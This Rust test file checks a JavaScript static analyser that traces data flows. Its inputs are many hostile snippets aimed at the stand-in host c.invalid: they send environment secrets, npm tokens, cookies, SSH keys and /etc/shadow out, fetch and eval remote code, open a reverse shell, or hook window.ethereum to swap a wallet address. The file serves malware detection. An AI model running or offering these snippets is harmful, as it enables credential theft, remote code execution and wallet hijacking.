//! Data followed from where it comes from to where it goes.

use foretaste_javascript::observe;
use foretaste_model::facts::{FileFacts, FlowLink, UseKind};
use foretaste_model::{Capability, Limits};

fn facts(code: &str) -> FileFacts {
    observe("a.js", code, &Limits::default())
}

fn flows(facts: &FileFacts) -> Vec<String> {
    facts
        .flows
        .iter()
        .map(|f| {
            let steps: Vec<_> = f.steps.iter().map(|s| &*s.api).collect();
            format!("{:?} {}", f.link, steps.join(" > "))
        })
        .collect()
}

#[test]
fn data_is_followed_to_its_sink() {
    let cases: &[(&str, &str)] = &[
        // environment and host to the network
        (
            "fetch('https://c.invalid', {method: 'POST', body: JSON.stringify(process.env)})",
            "Data process.env > JSON.stringify > fetch",
        ),
        (
            "const d = Buffer.from(JSON.stringify({env: process.env})).toString('base64'); require('axios').post('https://c.invalid', {d})",
            "Data process.env > JSON.stringify > Buffer.toString > axios.post",
        ),
        (
            "const https = require('https'); const req = https.request({host: 'c.invalid', method: 'POST'}); req.write(JSON.stringify(process.env)); req.end()",
            "Data process.env > JSON.stringify > http.ClientRequest.write",
        ),
        (
            "fetch(`https://c.invalid/?t=${process.env.NPM_TOKEN}`)",
            "Data process.env.NPM_TOKEN > fetch",
        ),
        (
            "fetch('https://c.invalid/?t=' + encodeURIComponent(process.env.NPM_TOKEN))",
            "Data process.env.NPM_TOKEN > encodeURIComponent > fetch",
        ),
        (
            "const os = require('os'); require('dns').lookup(os.hostname() + '.c.invalid', () => {})",
            "Data os.hostname > dns.lookup",
        ),
        (
            "const os = require('os'); const {username} = os.userInfo(); require('https').get({hostname: 'c.invalid', path: '/' + username})",
            "Data os.userInfo > https.get",
        ),
        (
            "const info = {h: require('os').hostname()}; const x = new XMLHttpRequest(); x.open('POST', 'https://c.invalid'); x.send(JSON.stringify(info))",
            "Data os.hostname > JSON.stringify > XMLHttpRequest.send",
        ),
        (
            "navigator.sendBeacon('https://c.invalid', document.cookie)",
            "Data document.cookie > navigator.sendBeacon",
        ),
        (
            "const ws = new WebSocket('wss://c.invalid'); ws.onopen = () => ws.send(localStorage.getItem('wallet'))",
            "Data localStorage.getItem > WebSocket.send",
        ),
        (
            "new Image().src = 'https://c.invalid/?c=' + document.cookie",
            "Data document.cookie > Image.src",
        ),
        (
            "const c = require('net').connect(4444, 'c.invalid'); c.write(Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n'))",
            "Data process.env > net.Socket.write",
        ),
        (
            "let out = ''; for (const k of Object.keys(process.env)) { out += k + process.env[k] } fetch('https://c.invalid', {body: out})",
            "Data process.env > fetch",
        ),
        (
            "const fs = require('fs'); const key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8'); require('axios').post('https://c.invalid', key)",
            "Data fs.readFileSync > axios.post",
        ),
        (
            "const fs = require('fs'); fs.readFile('/etc/shadow', (err, data) => { require('got').post('https://c.invalid', {body: data}) })",
            "Data fs.readFile > got.post",
        ),
        (
            "const {exec} = require('child_process'); exec('whoami', (err, out) => fetch('https://c.invalid/' + out))",
            "Data child_process.exec > fetch",
        ),
        (
            "const out = require('child_process').execSync('id').toString(); require('https').get('https://c.invalid/' + out)",
            "Data child_process.execSync > https.get",
        ),
        // through functions
        (
            "function send(d) { fetch('https://c.invalid', {method: 'POST', body: d}) } send(JSON.stringify(process.env))",
            "Data process.env > JSON.stringify > fetch",
        ),
        (
            "const collect = () => ({...process.env}); const send = d => require('axios').post('https://c.invalid', d); send(collect())",
            "Data process.env > axios.post",
        ),
        (
            "function enc(x) { return Buffer.from(x).toString('hex') } fetch('https://c.invalid/' + enc(require('os').hostname()))",
            "Data os.hostname > Buffer.toString > fetch",
        ),
        (
            "class Sender { constructor(d) { this.d = d } go() { fetch('https://c.invalid', {body: this.d}) } } new Sender(process.env).go()",
            "Data process.env > fetch",
        ),
        (
            "async function main() { const r = await fs.promises.readFile('/home/u/.npmrc'); await axios.post('https://c.invalid', r) } import fs from 'fs'; import axios from 'axios'; main()",
            "Data fs.promises.readFile > axios.post",
        ),
        (
            "const p = new Promise(ok => ok(process.env)); p.then(e => fetch('https://c.invalid', {body: JSON.stringify(e)}))",
            "Data process.env > JSON.stringify > fetch",
        ),
        (
            "const data = []; data.push(process.env); fetch('https://c.invalid', {body: JSON.stringify(data)})",
            "Data process.env > JSON.stringify > fetch",
        ),
        (
            "const o = {}; o.e = process.env; o.h = 1; fetch('https://c.invalid', {body: JSON.stringify(o)})",
            "Data process.env > JSON.stringify > fetch",
        ),
        (
            "const p = new URLSearchParams(); p.append('d', require('os').hostname()); fetch('https://c.invalid', {body: new URLSearchParams({h: require('os').hostname()})})",
            "Data os.hostname > URLSearchParams > fetch",
        ),
        (
            "const crypto = require('crypto'); const c = crypto.createCipheriv('aes-256-cbc', k, iv); const e = c.update(JSON.stringify(process.env), 'utf8', 'hex') + c.final('hex'); fetch('https://c.invalid', {body: e})",
            "Data process.env > JSON.stringify > crypto.Cipher.update > fetch",
        ),
        (
            "const zlib = require('zlib'); zlib.gzip(JSON.stringify(process.env), (e, z) => fetch('https://c.invalid', {body: z}))",
            "Data process.env > JSON.stringify > zlib.gzip > fetch",
        ),
        (
            "const b = new (require('node-telegram-bot-api'))('t'); b.sendMessage(1, require('os').hostname())",
            "Data os.hostname > messenger.Client.sendMessage",
        ),
        // downloads and decoders to execution
        (
            "require('https').get('https://c.invalid/p.js', res => { let b = ''; res.on('data', c => b += c); res.on('end', () => eval(b)) })",
            "Data https.get > eval",
        ),
        (
            "fetch('https://c.invalid/p').then(r => r.text()).then(t => new Function(t)())",
            "Data fetch > Function",
        ),
        (
            "fetch('https://c.invalid/p').then(r => r.text()).then(eval)",
            "Data fetch > eval",
        ),
        (
            "(async () => { const r = await fetch('https://c.invalid/p'); eval(await r.text()) })()",
            "Data fetch > eval",
        ),
        (
            "require('axios').get('https://c.invalid/p').then(({data}) => eval(data.code))",
            "Data axios.get > eval",
        ),
        (
            "require('request')('https://c.invalid/p', (e, r, body) => require('vm').runInThisContext(body))",
            "Data request > vm.runInThisContext",
        ),
        (
            "const {data} = await require('axios').get('https://c.invalid/c'); require('child_process').exec(data)",
            "Data axios.get > child_process.exec",
        ),
        (
            "const ws = new WebSocket('wss://c.invalid'); ws.on('message', m => require('child_process').exec(m.toString()))",
            "Data WebSocket > child_process.exec",
        ),
        (
            "const x = new XMLHttpRequest(); x.open('GET', 'https://c.invalid/p'); x.onload = () => eval(x.responseText); x.send()",
            "Data XMLHttpRequest.responseText > eval",
        ),
        (
            "eval(Buffer.from('Y29uc29sZS5sb2coImluZXJ0Iik7IC8vIGxvbmcgZW5vdWdo', 'base64').toString())",
            "Data Buffer.from > eval",
        ),
        ("eval(atob(x))", "Data atob > eval"),
        (
            "const s = require('fs').readFileSync('logo.png'); eval(Buffer.from(s.toString().slice(9), 'base64').toString())",
            "Data fs.readFileSync > Buffer.from > eval",
        ),
        (
            "const d = require('crypto').createDecipheriv('a', k, i); eval(d.update(b, 'hex', 'utf8') + d.final('utf8'))",
            "Data crypto.Decipher.update > eval",
        ),
        (
            "require('net').createServer(s => s.on('data', d => require('child_process').exec(d.toString())))",
            "Data net.createServer > child_process.exec",
        ),
        // downloads to files
        (
            "const fs = require('fs'); require('https').get('https://c.invalid/x', r => r.pipe(fs.createWriteStream('/tmp/x')))",
            "Data https.get > fs.WriteStream",
        ),
        (
            "const fs = require('fs'), cp = require('child_process'); require('axios').get('https://c.invalid/x').then(r => { fs.writeFileSync('/tmp/x.sh', r.data); cp.execSync('sh /tmp/x.sh') })",
            "Resource axios.get > fs.writeFileSync > child_process.execSync",
        ),
        (
            "const fs = require('fs'), path = require('path'), os = require('os'), cp = require('child_process'); const f = path.join(os.tmpdir(), 'u.exe'); fs.writeFileSync(f, body); cp.spawn(f)",
            "Resource fs.writeFileSync > child_process.spawn",
        ),
        (
            "const fs = require('fs'), cp = require('child_process'); const out = fs.createWriteStream('/tmp/x'); require('https').get('https://c.invalid/x', r => { r.pipe(out); cp.exec('/tmp/x') })",
            "Resource https.get > fs.WriteStream > child_process.exec",
        ),
        // reverse shell
        (
            "const n = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []); const c = new n.Socket(); c.connect(4444, 'c.invalid', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })",
            "Data child_process.spawn > net.Socket",
        ),
    ];
    let mut failed = Vec::new();
    for (code, flow) in cases {
        let facts = facts(code);
        let found = flows(&facts);
        if !found.iter().any(|f| f == flow) {
            failed.push(format!(
                "{code}\n   wants {flow}\n   has   {found:?} {:?}",
                facts.problems
            ));
        }
    }
    assert!(
        failed.is_empty(),
        "{} failed:\n{}",
        failed.len(),
        failed.join("\n")
    );
}

#[test]
fn honest_code_has_no_chains() {
    for code in [
        // configuration decides where to, not what
        "fetch(process.env.API_URL)",
        "fetch(process.env.API_URL + '/items')",
        "const url = process.env.API || 'http://localhost'; require('axios').get(`${url}/x`)",
        "const http = require('http'); http.get({host: process.env.HOST, port: process.env.PORT, agent: mk(process.env.PROXY)})",
        "const axios = require('axios').create({baseURL: process.env.BASE, timeout: Number(process.env.T)}); axios.get('/x')",
        "if (process.env.DEBUG) fetch('https://a.invalid/x')",
        "fetch('https://a.invalid', {headers: {'User-Agent': process.version}})",
        // the child's environment is no payload
        "const cp = require('child_process'); cp.spawn('ls', [], {env: process.env, cwd: process.cwd()})",
        "const cp = require('child_process'); cp.exec('ls', {env: {...process.env, A: '1'}})",
        "require('child_process').spawn(process.env.SHELL, ['-c', 'ls'])",
        // different values of one helper
        "const str = x => String(x); const a = str(process.env.HOME); fetch('https://a.invalid/' + str('x'))",
        "function log(x) { console.log(x) } log(process.env); fetch('https://a.invalid')",
        // tests and measures
        "const n = Object.keys(process.env).length; fetch('https://a.invalid/?n=' + n)",
        "fetch('https://a.invalid/?ci=' + (process.env.CI === 'true'))",
        "fetch('https://a.invalid/' + ('CI' in process.env))",
        // an interpreter that compiles what it makes itself
        "const body = ['return ', 'a + b'].join(''); new Function('a', 'b', body)",
        "const f = fs.readFileSync('package.json'); const v = JSON.parse(f).version; const fs = require('fs'); console.log(v)",
        "const m = require('./' + name)",
        // downloads are no execution
        "fetch('https://a.invalid/x').then(r => r.json()).then(d => render(d))",
        "const fs = require('fs'); fs.writeFileSync('out.txt', text); require('child_process').execSync('ls')",
        // decoding without execution
        "const t = JSON.parse(Buffer.from(token.split('.')[1], 'base64').toString()); use(t.exp)",
        "const res = await fetch('https://a.invalid/'); setTimeout(() => res.text(), 10)",
    ] {
        assert_eq!(flows(&facts(code)), Vec::<String>::new(), "{code}");
    }
}

#[test]
fn telling_constants_stand_at_the_steps() {
    let facts = facts(
        "const fs = require('fs'); const k = fs.readFileSync('/root/.ssh/id_rsa');
         fetch('https://c.invalid/x', {method: 'POST', body: k + process.env.AWS_SECRET_ACCESS_KEY})",
    );
    let steps: Vec<_> = facts
        .flows
        .iter()
        .flat_map(|f| &f.steps)
        .filter_map(|s| s.constant.as_deref())
        .collect();
    for wanted in [
        "/root/.ssh/id_rsa",
        "AWS_SECRET_ACCESS_KEY",
        "https://c.invalid/x",
    ] {
        assert!(steps.contains(&wanted), "{wanted}: {steps:?}");
    }
    assert!(
        facts
            .flows
            .iter()
            .all(|f| f.link == FlowLink::Data && f.function == 0)
    );
}

#[test]
fn what_is_brought_where_it_is_missing_replaces_nothing() {
    let intercepts = |code: &str| {
        facts(code)
            .uses
            .iter()
            .any(|u| u.kind == UseKind::Write && u.capability == Capability::NetworkHttp)
    };
    for honest in [
        "const own = (u, o) => send(u, o); self.fetch || (self.fetch = own, self.Headers = class {});",
        "function own(u) { return send(u) } if (!globalThis.fetch) { globalThis.fetch = own; globalThis.Response = class {} }",
        "const w = window; !w.XMLHttpRequest && (w.XMLHttpRequest = function () {});",
    ] {
        assert!(!intercepts(honest), "{honest}");
    }
    for hostile in [
        "const old = window.fetch; window.fetch = (u, o) => { log(o.body); return old(u, o) };",
        "const old = window.fetch; window.crypto || (window.crypto = {}); window.fetch = (u, o) => { log(o); return old(u, o) };",
        "const old = window.fetch; if (window.fetch) { window.fetch = (u, o) => { log(o); return old(u, o) } }",
    ] {
        assert!(intercepts(hostile), "{hostile}");
    }
}

#[test]
fn a_wallet_clipper_shows_its_hooks() {
    let facts = facts(
        "const real = window.fetch; window.fetch = async (...a) => { const r = await real(...a); return r };
         XMLHttpRequest.prototype.send = function (b) {};
         const ask = window.ethereum.request; window.ethereum.request = async q => { q.params[0].to = '0x52908400098527886E0F7030069857D2E4169EE7'; return ask(q) };",
    );
    let writes: Vec<_> = facts
        .uses
        .iter()
        .filter(|u| u.kind == foretaste_model::facts::UseKind::Write)
        .map(|u| (u.capability, &*u.api))
        .collect();
    assert!(
        writes.contains(&(Capability::NetworkHttp, "fetch")),
        "{writes:?}"
    );
    assert!(
        writes.contains(&(Capability::Wallet, "ethereum.request")),
        "{writes:?}"
    );
    assert!(
        facts
            .literals
            .iter()
            .any(|l| l.kind == foretaste_model::facts::LiteralKind::WalletAddress),
        "{:?}",
        facts.literals
    );
}

#[test]
fn decoded_code_is_observed_again() {
    // require('child_process').exec('id; echo inert')
    let b64 = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkOyBlY2hvIGluZXJ0Jyk=";
    let hex = "7265717569726528276368696c645f70726f6365737327292e657865632827696427293b";
    let cases = [
        (format!("eval(atob('{b64}'))"), true),
        (format!("eval(Buffer.from('{b64}', 'base64').toString('utf8'))"), true),
        (format!("const p = '{b64}'; const d = Buffer.from(p, 'base64'); new Function(d.toString())()"), true),
        (format!("require('vm').runInNewContext(Buffer.from('{hex}', 'hex').toString())"), true),
        (format!("const unused = '{b64}';"), false),
        (format!("eval(\"eval(atob('{b64}'))\")"), true),
        ("eval(\"require('child_process').exec('id')\")".to_owned(), true),
        ("setTimeout(\"require('child_process').exec('id')\", 1)".to_owned(), true),
        ("require('child_process').spawn('node', ['-e', \"require('child_process').exec('id')\"])".to_owned(), true),
        (format!("import('data:text/javascript;base64,{b64}')"), true),
        ("eval(unescape('%72%65%71%75%69%72%65%28%27child_process%27).exec(%27id%27)'))".to_owned(), true),
    ];
    for (code, executed) in cases {
        let facts = facts(&code);
        let mut layers: Vec<_> = facts.layers.iter().collect();
        let mut found = false;
        while let Some(layer) = layers.pop() {
            found |= layer.executed == executed
                && layer
                    .facts
                    .uses
                    .iter()
                    .any(|u| &*u.api == "child_process.exec");
            layers.extend(&layer.facts.layers);
        }
        assert!(found, "{code}: {:#?}", facts.layers);
    }
}
